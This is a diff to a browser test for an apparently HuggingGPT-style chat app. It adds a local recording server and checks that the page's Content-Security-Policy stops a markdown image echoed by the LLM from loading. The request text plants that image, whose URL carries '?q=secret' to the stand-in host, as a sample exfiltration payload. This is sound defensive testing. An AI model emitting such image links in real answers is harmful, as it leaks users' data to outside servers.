@@ -7,7 +7,9 @@ Skips when Chromium or Playwright is missing, unless HUGGINGGPT_REQUIRE_BROWSER=
 import contextlib
 import os
 import shutil
+import threading
 import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -34,11 +36,35 @@ def _browser_or_skip():
     return sync_playwright
 
 
+@contextlib.contextmanager
+def beacon():
+    """An HTTP server that records every request: an image the page must never load."""
+    hits: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", hits
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
 @pytest.mark.browser
 def test_browser_streams_plan_models_media_and_answer(llm_server, tiny_catalog, tmp_path):  # noqa: F811
     sync_playwright = _browser_or_skip()
     picture = photo(tmp_path / "street.png", (64, 48))
-    with running_app(app_settings(llm_server, tmp_path / "ws"), catalog=tiny_catalog) as demo, sync_playwright() as p:
+    with (running_app(app_settings(llm_server, tmp_path / "ws"), catalog=tiny_catalog) as demo, sync_playwright() as p,
+          beacon() as (tracker, hits)):
         browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=ARGS)
         try:
             page = browser.new_page(viewport={"width": 1100, "height": 1500})
@@ -50,7 +76,8 @@ def test_browser_streams_plan_models_media_and_answer(llm_server, tiny_catalog, 
             page.locator("#request input[type=file]").set_input_files(str(picture))
             page.locator("#request img").first.wait_for()  # the upload finished: its thumbnail is shown
             box = page.locator("#request textarea")
-            box.fill("[conv-browser] caption this photo, draw the caption and read it aloud")
+            # the request carries a markdown image on another origin, and the fake LLM echoes it
+            box.fill(f"[conv-browser] caption this photo, draw the caption and read it aloud ![t]({tracker}/t.png?q=secret)")
             sent = time.perf_counter()
             box.press("Enter")
 
@@ -59,6 +86,13 @@ def test_browser_streams_plan_models_media_and_answer(llm_server, tiny_catalog, 
             plan_seconds = time.perf_counter() - sent
             chat.get_by_text("Answer for conv-browser").wait_for()
             chat.get_by_text("Task 2 · text-to-speech · tiny/vits · done").wait_for()
+
+            # the LLM's markdown image became an <img>, and the page's Content-Security-Policy kept the
+            # browser from loading it: no request reached the other origin
+            injected = chat.locator(f"img[src^='{tracker}']")
+            assert injected.count() >= 2  # in the request and in the answer
+            assert injected.last.evaluate("img => img.complete && img.naturalWidth === 0")
+            assert hits == [], hits
 
             # the generated image: an <img> served by Gradio, other than the uploaded photo
             images = chat.locator("img[src*='/gradio_api/file=']")
